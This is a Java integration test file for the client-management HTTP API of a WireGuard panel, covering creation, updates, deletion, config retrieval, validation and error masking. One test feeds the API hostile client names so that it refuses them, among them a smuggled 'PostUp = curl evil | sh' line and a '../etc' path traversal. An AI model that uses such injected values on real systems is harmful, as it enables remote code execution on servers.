package io.candypanel.adapter.http;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.mockito.ArgumentMatchers.any;
import static org.mockito.BDDMockito.given;
import static org.mockito.BDDMockito.then;

import com.fasterxml.jackson.databind.JsonNode;
import io.candypanel.adapter.http.ApiFixture.Reply;
import io.candypanel.application.port.in.client.ClientNameTakenException;
import io.candypanel.application.port.in.client.ClientNotFoundException;
import io.candypanel.application.port.in.client.CreateClientCommand;
import io.candypanel.application.port.in.client.CreatedClient;
import io.candypanel.application.port.in.client.DeleteClientCommand;
import io.candypanel.application.port.in.client.GetClientConfigQuery;
import io.candypanel.application.port.in.client.UpdateClientCommand;
import io.candypanel.application.port.in.client.UpdatedClient;
import io.candypanel.application.port.in.kernel.KernelOutcome;
import io.candypanel.application.port.in.wginterface.InterfaceNotFoundException;
import io.candypanel.domain.client.ClientName;
import io.candypanel.domain.client.Quota;
import io.candypanel.domain.wginterface.InterfaceId;
import java.time.Instant;
import java.util.Optional;
import java.util.concurrent.atomic.AtomicReference;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.mockito.ArgumentCaptor;

class ClientApiIT {
    private static final String CONFIG = "[Interface]\nPrivateKey = ...\n";

    private final ApiFixture api = new ApiFixture();

    @AfterEach
    void stop() {
        api.assertNoServerErrors();
        api.close();
    }

    private void noClientUseCaseCalled() {
        then(api.createClient).shouldHaveNoInteractions();
        then(api.updateClient).shouldHaveNoInteractions();
        then(api.deleteClient).shouldHaveNoInteractions();
        then(api.getClientConfig).shouldHaveNoInteractions();
    }

    private CreateClientCommand capturedCreate() {
        ArgumentCaptor<CreateClientCommand> command = ArgumentCaptor.forClass(CreateClientCommand.class);
        then(api.createClient).should().create(command.capture());
        return command.getValue();
    }

    private UpdateClientCommand capturedUpdate() {
        ArgumentCaptor<UpdateClientCommand> command = ArgumentCaptor.forClass(UpdateClientCommand.class);
        then(api.updateClient).should().update(command.capture());
        return command.getValue();
    }

    private void givenCreateSucceeds(KernelOutcome kernel) {
        given(api.createClient.create(any())).willAnswer(call -> {
            CreateClientCommand command = call.getArgument(0);
            return new CreatedClient(Samples.client(command.name().value()), CONFIG, kernel);
        });
    }

    @Nested
    class Create {
        @Test
        void createsFromNestedDataAndReturnsTheConfig() {
            givenCreateSucceeds(KernelOutcome.applied("peer added"));

            JsonNode data = api.manage("{\"resource\": \"client\", \"action\": \"create\", \"data\": {\"name\": \"alice\", "
                    + "\"expires\": \"2026-12-01T00:00:00Z\", \"traffic\": 5368709120, \"note\": \"laptop\"}}")
                    .assertSuccess("Client created successfully!");

            assertEquals(CONFIG, data.path("client_config").asText());
            assertFalse(data.has("kernel"));
            assertEquals(new CreateClientCommand(new ClientName("alice"), Instant.parse("2026-12-01T00:00:00Z"),
                    new Quota(5_368_709_120L), InterfaceId.FIRST, "laptop"), capturedCreate());
        }

        @Test
        void createsFromFlatFieldsAsTheOriginalFrontEndSendsThem() {
            givenCreateSucceeds(KernelOutcome.applied("peer added"));

            api.manage("{\"resource\": \"client\", \"action\": \"create\", \"name\": \"bob\", \"expires\": \"2026-12-01\", "
                    + "\"traffic\": \"1048576\", \"wg_id\": \"1\"}").assertSuccess("Client created successfully!");

            // A bare date is the start of that day in the panel's zone (+03:30).
            assertEquals(new CreateClientCommand(new ClientName("bob"), Instant.parse("2026-11-30T20:30:00Z"),
                    new Quota(1_048_576L), new InterfaceId(1), ""), capturedCreate());
        }

        @Test
        void nestedFieldsWinOverFlatOnes() {
            givenCreateSucceeds(KernelOutcome.applied("peer added"));

            api.manage("{\"resource\": \"client\", \"action\": \"create\", \"name\": \"flat\", \"traffic\": 1, "
                    + "\"data\": {\"name\": \"nested\", \"expires\": \"2026-12-01T00:00:00\", \"traffic\": 0, \"wg_id\": 2}}")
                    .assertSuccess("Client created successfully!");

            CreateClientCommand command = capturedCreate();
            assertEquals(new ClientName("nested"), command.name());
            assertEquals(Quota.UNLIMITED, command.quota());
            assertEquals(new InterfaceId(2), command.interfaceId());
            assertEquals(Instant.parse("2026-11-30T20:30:00Z"), command.expiresAt());
        }

        @Test
        void aKernelFailureIsA200ThatSaysTheChangeWillBeRetried() {
            givenCreateSucceeds(KernelOutcome.failed("wg set wg0 failed: operation not permitted"));

            JsonNode data = api.manage("{\"resource\": \"client\", \"action\": \"create\", \"name\": \"alice\", "
                    + "\"expires\": \"2026-12-01\", \"traffic\": 0}")
                    .assertSuccess("Client created successfully! WireGuard was not updated: "
                            + "wg set wg0 failed: operation not permitted; it will be retried.");

            assertEquals(CONFIG, data.path("client_config").asText());
            assertFalse(data.path("kernel").path("applied").booleanValue());
            assertEquals("wg set wg0 failed: operation not permitted", data.path("kernel").path("message").asText());
        }

        @Test
        void aTakenNameIsAConflict() {
            given(api.createClient.create(any())).willThrow(new ClientNameTakenException(new ClientName("alice")));

            api.manage("{\"resource\": \"client\", \"action\": \"create\", \"name\": \"alice\", \"expires\": \"2026-12-01\", \"traffic\": 0}")
                    .assertError(409, "CLIENT_NAME_TAKEN");
        }

        @Test
        void anUnknownInterfaceIsNotFound() {
            given(api.createClient.create(any())).willThrow(new InterfaceNotFoundException(new InterfaceId(7)));

            api.manage("{\"resource\": \"client\", \"action\": \"create\", \"name\": \"alice\", \"expires\": \"2026-12-01\", "
                    + "\"traffic\": 0, \"wg_id\": 7}").assertError(404, "INTERFACE_NOT_FOUND");
        }

        @ParameterizedTest
        @ValueSource(strings = {"name", "expires", "traffic"})
        void eachRequiredFieldIsNamedWhenMissingOrNull(String field) {
            String complete = "{\"resource\": \"client\", \"action\": \"create\", \"data\": "
                    + "{\"name\": \"alice\", \"expires\": \"2026-12-01\", \"traffic\": 0}}";

            String missing = api.manage(complete.replace("\"" + field + "\"", "\"other\"")).assertError(400, "VALIDATION_FAILED");
            String nulled = api.manage(complete.replaceAll("(\"" + field + "\": )(\"[^\"]*\"|0)", "$1null"))
                    .assertError(400, "VALIDATION_FAILED");

            assertEquals("Missing required field '" + field + "'.", missing);
            assertEquals("Missing required field '" + field + "'.", nulled);
            noClientUseCaseCalled();
        }

        @ParameterizedTest
        @ValueSource(strings = {
                "\"traffic\": \"abc\"|traffic", "\"traffic\": -1|traffic", "\"traffic\": \"-1\"|traffic",
                "\"traffic\": 1.5|traffic", "\"traffic\": true|traffic", "\"traffic\": \"1 GB\"|traffic",
                "\"traffic\": 9223372036854775808|traffic",
                "\"wg_id\": \"x\"|wg_id", "\"wg_id\": -1|wg_id", "\"wg_id\": 10000|wg_id", "\"wg_id\": \"wg0\"|wg_id",
                "\"expires\": \"tomorrow\"|expires", "\"expires\": 1764547200|expires", "\"expires\": \"2026-02-30\"|expires",
                "\"name\": 42|name", "\"name\": [\"alice\"]|name", "\"name\": true|name",
                "\"note\": 7|note", "\"note\": \"two\\nlines\"|note"})
        void wrongTypesAndValuesAre400NamingTheField(String override) {
            String[] parts = override.split("\\|");
            String body = "{\"resource\": \"client\", \"action\": \"create\", \"name\": \"alice\", \"expires\": \"2026-12-01\", "
                    + "\"traffic\": 0, \"data\": {" + parts[0] + "}}";

            Reply reply = api.manage(body);

            assertEquals(400, reply.status(), reply.body());
            String message = reply.json().path("message").asText();
            assertTrue(message.contains("'" + parts[1] + "'"), message);
            assertFalse(reply.json().path("success").booleanValue());
            assertTrue(reply.json().path("code").isTextual());
            noClientUseCaseCalled();
        }

        @ParameterizedTest
        @ValueSource(strings = {"alice\\nPostUp = curl evil | sh", "alice\\u0000", "al ice", "ålice", "\\ud83d\\ude00", "",
                "a/b", "../etc", "\\u202ealice", "alice\\r\\n[Interface]"})
        void namesOutsideTheAllowedCharactersAreRefusedBeforeAnyUseCase(String jsonEscapedName) {
            String message = api.manage("{\"resource\": \"client\", \"action\": \"create\", \"name\": \"" + jsonEscapedName
                    + "\", \"expires\": \"2026-12-01\", \"traffic\": 0}").assertError(400, "INVALID_CLIENT_NAME");

            assertTrue(message.contains("'name'"), message);
            noClientUseCaseCalled();
        }

        @Test
        void aNameOfSixtyFiveCharactersIsTooLong() {
            api.manage("{\"resource\": \"client\", \"action\": \"create\", \"name\": \"" + "a".repeat(65)
                    + "\", \"expires\": \"2026-12-01\", \"traffic\": 0}").assertError(400, "INVALID_CLIENT_NAME");
        }

        @Test
        void theUseCaseRunsOnAWorkerThreadNeverOnAnIoThread() {
            AtomicReference<String> thread = new AtomicReference<>();
            given(api.createClient.create(any())).willAnswer(call -> {
                thread.set(Thread.currentThread().getName());
                CreateClientCommand command = call.getArgument(0);
                return new CreatedClient(Samples.client(command.name().value()), CONFIG, KernelOutcome.applied("ok"));
            });

            api.manage("{\"resource\": \"client\", \"action\": \"create\", \"name\": \"alice\", \"expires\": \"2026-12-01\", \"traffic\": 0}")
                    .assertSuccess("Client created successfully!");

            assertFalse(thread.get().contains("I/O"), thread.get());
            assertTrue(thread.get().contains("task"), thread.get());
        }
    }

    @Nested
    class Update {
        @Test
        void changesOnlyTheGivenFields() {
            given(api.updateClient.update(any())).willReturn(new UpdatedClient(Samples.client("alice"), KernelOutcome.applied("ok")));

            JsonNode data = api.manage("{\"resource\": \"client\", \"action\": \"update\", \"data\": {\"name\": \"alice\", "
                    + "\"status\": false, \"traffic\": \"0\", \"note\": \"paused\", \"expires\": null}}")
                    .assertSuccess("Client 'alice' edited successfully.");

            assertNull(data);
            assertEquals(new UpdateClientCommand(new ClientName("alice"), Optional.empty(), Optional.of(Quota.UNLIMITED),
                    Optional.of(false), Optional.of("paused")), capturedUpdate());
        }

        @Test
        void extendsTheExpiryInThePanelsZone() {
            given(api.updateClient.update(any())).willReturn(new UpdatedClient(Samples.client("alice"), KernelOutcome.applied("ok")));

            api.manage("{\"resource\": \"client\", \"action\": \"update\", \"name\": \"alice\", \"expires\": \"2027-01-01T12:00:00\", "
                    + "\"status\": true}").assertSuccess("Client 'alice' edited successfully.");

            assertEquals(new UpdateClientCommand(new ClientName("alice"), Optional.of(Instant.parse("2027-01-01T08:30:00Z")),
                    Optional.empty(), Optional.of(true), Optional.empty()), capturedUpdate());
        }

        @Test
        void aKernelFailureIsReported() {
            given(api.updateClient.update(any())).willReturn(new UpdatedClient(Samples.client("alice"), KernelOutcome.failed("wg is gone")));

            JsonNode data = api.manage("{\"resource\": \"client\", \"action\": \"update\", \"name\": \"alice\", \"status\": false}")
                    .assertSuccess("Client 'alice' edited successfully. WireGuard was not updated: wg is gone; it will be retried.");

            assertFalse(data.path("kernel").path("applied").booleanValue());
            assertEquals("wg is gone", data.path("kernel").path("message").asText());
        }

        @Test
        void nothingToChangeIs400() {
            String message = api.manage("{\"resource\": \"client\", \"action\": \"update\", \"name\": \"alice\", \"status\": null}")
                    .assertError(400, "VALIDATION_FAILED");

            assertTrue(message.contains("expires, traffic, status or note"), message);
            noClientUseCaseCalled();
        }

        @ParameterizedTest
        @ValueSource(strings = {"\"status\": \"yes\"", "\"status\": \"true\"", "\"status\": 1", "\"traffic\": \"abc\"",
                "\"expires\": \"soon\"", "\"note\": false"})
        void illTypedFieldsAre400(String field) {
            api.manage("{\"resource\": \"client\", \"action\": \"update\", \"name\": \"alice\", " + field + "}")
                    .assertError(400, "VALIDATION_FAILED");

            noClientUseCaseCalled();
        }

        @Test
        void anUnknownClientIsNotFound() {
            given(api.updateClient.update(any())).willThrow(new ClientNotFoundException(new ClientName("ghost")));

            String message = api.manage("{\"resource\": \"client\", \"action\": \"update\", \"name\": \"ghost\", \"status\": true}")
                    .assertError(404, "CLIENT_NOT_FOUND");

            assertEquals("Client 'ghost' not found.", message);
        }
    }

    @Nested
    class Delete {
        @Test
        void deletesByName() {
            given(api.deleteClient.delete(any())).willReturn(KernelOutcome.applied("peer removed"));

            JsonNode data = api.manage("{\"resource\": \"client\", \"action\": \"delete\", \"data\": {\"name\": \"alice\"}}")
                    .assertSuccess("Client 'alice' deleted successfully.");

            assertNull(data);
            then(api.deleteClient).should().delete(new DeleteClientCommand(new ClientName("alice")));
        }

        @Test
        void aKernelFailureIsReported() {
            given(api.deleteClient.delete(any())).willReturn(KernelOutcome.failed("peer still present"));

            JsonNode data = api.manage("{\"resource\": \"client\", \"action\": \"delete\", \"name\": \"alice\"}")
                    .assertSuccess("Client 'alice' deleted successfully. WireGuard was not updated: peer still present; it will be retried.");

            assertFalse(data.path("kernel").path("applied").booleanValue());
        }

        @Test
        void anUnknownClientIsNotFound() {
            given(api.deleteClient.delete(any())).willThrow(new ClientNotFoundException(new ClientName("ghost")));

            api.manage("{\"resource\": \"client\", \"action\": \"delete\", \"name\": \"ghost\"}").assertError(404, "CLIENT_NOT_FOUND");
        }

        @Test
        void aMissingNameIs400() {
            assertEquals("Missing required field 'name'.",
                    api.manage("{\"resource\": \"client\", \"action\": \"delete\"}").assertError(400, "VALIDATION_FAILED"));
            noClientUseCaseCalled();
        }
    }

    @Nested
    class GetConfig {
        @Test
        void returnsTheConfig() {
            given(api.getClientConfig.config(new GetClientConfigQuery(new ClientName("alice")))).willReturn(CONFIG);

            JsonNode data = api.manage("{\"resource\": \"client\", \"action\": \"get_config\", \"name\": \"alice\"}")
                    .assertSuccess("Client config retrieved successfully.");

            assertEquals(CONFIG, data.path("config").asText());
        }

        @Test
        void anUnknownClientIsNotFound() {
            given(api.getClientConfig.config(any())).willThrow(new ClientNotFoundException(new ClientName("ghost")));

            api.manage("{\"resource\": \"client\", \"action\": \"get_config\", \"name\": \"ghost\"}").assertError(404, "CLIENT_NOT_FOUND");
        }
    }

    @Nested
    class Dispatch {
        @ParameterizedTest
        @ValueSource(strings = {"interfaces", "settings", "Client", "", "client\\n", "api_tokens", "Interface", "backups"})
        void anUnknownResourceIs404(String resource) {
            String message = api.manage("{\"resource\": \"" + resource + "\", \"action\": \"create\"}").assertError(404, "UNKNOWN_RESOURCE");

            assertTrue(message.startsWith("Unknown resource type"), message);
            assertFalse(message.contains("\n"), message);
        }

        @ParameterizedTest
        @ValueSource(strings = {"remove", "CREATE", "", "reset", "get_config "})
        void anUnknownActionIs404(String action) {
            String message = api.manage("{\"resource\": \"client\", \"action\": \"" + action + "\", \"name\": \"alice\"}")
                    .assertError(404, "UNKNOWN_ACTION");

            assertTrue(message.startsWith("Invalid action '"), message);
            noClientUseCaseCalled();
        }

        @ParameterizedTest
        @ValueSource(strings = {"{}", "{\"resource\": \"client\"}", "{\"action\": \"create\"}", "{\"resource\": null, \"action\": \"create\"}"})
        void aMissingResourceOrActionIs400(String body) {
            assertEquals("Missing 'resource' or 'action' in request body.", api.manage(body).assertError(400, "VALIDATION_FAILED"));
        }

        @ParameterizedTest
        @ValueSource(strings = {"{\"resource\": 1, \"action\": \"create\"}", "{\"resource\": \"client\", \"action\": [\"create\"]}",
                "{\"resource\": \"client\", \"action\": \"delete\", \"data\": \"name=alice\"}",
                "{\"resource\": \"client\", \"action\": \"delete\", \"data\": [\"alice\"]}"})
        void resourceActionAndDataOfTheWrongTypeAre400(String body) {
            api.manage(body).assertError(400, "VALIDATION_FAILED");
            noClientUseCaseCalled();
        }
    }

    @Test
    void aBugInAUseCaseIsAGeneric500WithoutItsDetails() {
        api.expectServerError();
        given(api.deleteClient.delete(any())).willThrow(new IllegalStateException("database is locked at /var/lib/candypanel/db.sqlite"));

        String message = api.manage("{\"resource\": \"client\", \"action\": \"delete\", \"name\": \"alice\"}").assertError(500, "INTERNAL_ERROR");

        assertFalse(message.contains("database"), message);
        assertFalse(message.contains("sqlite"), message);
        assertFalse(message.contains("IllegalStateException"), message);
        assertTrue(message.startsWith("An unexpected error occurred"), message);
    }

    @Test
    void anErrorThatEscapesEveryHandlerStillBecomesAJson500() {
        api.expectServerError();
        given(api.getClientConfig.config(any())).willThrow(new NoClassDefFoundError("org/secret/WgInternals"));

        String message = api.manage("{\"resource\": \"client\", \"action\": \"get_config\", \"name\": \"alice\"}")
                .assertError(500, "INTERNAL_ERROR");

        assertFalse(message.contains("secret"), message);
        assertFalse(message.contains("NoClassDefFoundError"), message);
    }
}
